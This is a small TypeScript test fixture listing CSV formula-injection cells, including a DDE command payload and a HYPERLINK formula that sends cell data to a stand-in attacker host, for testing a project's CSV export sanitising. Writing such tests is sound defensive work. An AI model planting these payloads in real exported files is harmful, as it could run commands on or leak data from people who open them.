/**
 * Cells a spreadsheet would run (OWASP "CSV Injection"; the issue's own examples first), for the tests
 * of Ferry's CSV exports.
 */
export const INJECTIONS = [
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '=HYPERLINK("http://attacker.example/?d="&A1,"x")',
];

/** What a spreadsheet runs: a cell starting with one of these. */
export const FORMULA_START = /^[=+\-@\t\r\n]/;
